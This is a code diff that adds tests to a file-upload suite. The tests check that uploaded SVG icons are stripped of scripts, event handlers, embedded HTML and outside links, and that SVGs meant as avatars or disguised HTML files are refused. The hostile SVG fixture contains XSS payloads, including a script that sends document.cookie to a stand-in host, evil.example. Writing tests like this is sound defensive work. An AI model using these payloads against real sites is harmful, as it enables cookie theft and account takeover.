@@ -51,6 +51,54 @@ describe(`upload (${TEST_DIALECT})`, () => {
     expect(unknown.statusCode).toBe(404);
   });
 
+  it('takes an SVG icon only once cleaned: no script, handler, HTML or outside link survives', async () => {
+    const hostile = Buffer.from(
+      [
+        '<?xml version="1.0"?>',
+        '<!-- a region icon -->',
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" onload="alert(1)">',
+        '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
+        '<defs><linearGradient id="g"><stop offset="0" stop-color="#0a7"/></linearGradient></defs>',
+        '<path d="M12 2 L22 22 L2 22 Z" fill="url(#g)" onclick="alert(2)" style="background:url(https://evil.example/x)"/>',
+        '<use xlink:href="#g"/><use href="https://evil.example/sprite.svg#icon"/>',
+        '<a href="javascript:alert(3)"><circle cx="12" cy="12" r="3"/></a>',
+        '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"></iframe></foreignObject>',
+        '</svg>',
+      ].join('\n'),
+    );
+    const answer = await upload(admin, { kind: 'icon', content: hostile, fileName: 'pin.svg', contentType: 'image/svg+xml' });
+    expect(answer.status, answer.body.message).toBe(200);
+    expect(answer.body.result.fileUrl).toMatch(/\.svg$/);
+    expect(answer.body.result.mimeType).toBe('image/svg+xml');
+
+    const served = await t.app.inject({ method: 'GET', url: answer.body.result.fileUrl, headers: { token: staff } });
+    expect(served.statusCode).toBe(200);
+    expect(served.headers['content-type']).toBe('image/svg+xml');
+    expect(served.headers['x-content-type-options']).toBe('nosniff');
+    expect(served.headers['content-security-policy']).toContain('sandbox');
+    const svg = served.body;
+    // The drawing stays...
+    expect(svg).toContain('<path d="M12 2 L22 22 L2 22 Z"');
+    expect(svg).toContain('<circle');
+    expect(svg).toContain('fill="url(#g)"');
+    expect(svg).toContain('<linearGradient id="g"');
+    // ...and nothing that runs or reaches out.
+    for (const gone of ['<script', 'onload', 'onclick', 'javascript:', 'foreignObject', 'iframe', 'evil.example', 'document.cookie', 'style=']) {
+      expect(svg, gone).not.toContain(gone);
+    }
+  });
+
+  it('refuses an SVG for anything but an icon, and a document that only pretends to be one', async () => {
+    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>');
+    const avatar = await upload(admin, { kind: 'avatar', content: svg, fileName: 'me.svg', contentType: 'image/svg+xml' });
+    expect([avatar.status, avatar.body.returncode, avatar.body.message]).toEqual([415, ReturnCode.UNSUPPORTED_MEDIA_TYPE, 'Please upload png, jpeg, jpg format file']);
+    const html = Buffer.from('<html><body><svg><script>alert(1)</script></svg></body></html>');
+    const disguised = await upload(admin, { kind: 'icon', content: html, fileName: 'icon.svg', contentType: 'image/svg+xml' });
+    expect([disguised.status, disguised.body.message]).toEqual([415, 'Please upload png, jpeg, jpg, svg format file']);
+    const pngIcon = await upload(admin, { kind: 'icon' });
+    expect([pngIcon.status, pngIcon.body.result.mimeType]).toEqual([200, 'image/png']);
+  });
+
   it('names a jpeg .jpg whatever the client called it', async () => {
     const answer = await upload(admin, { content: JPEG_BYTES, fileName: 'photo.jpeg', contentType: 'image/jpeg', kind: 'avatar' });
     expect(answer.status).toBe(200);
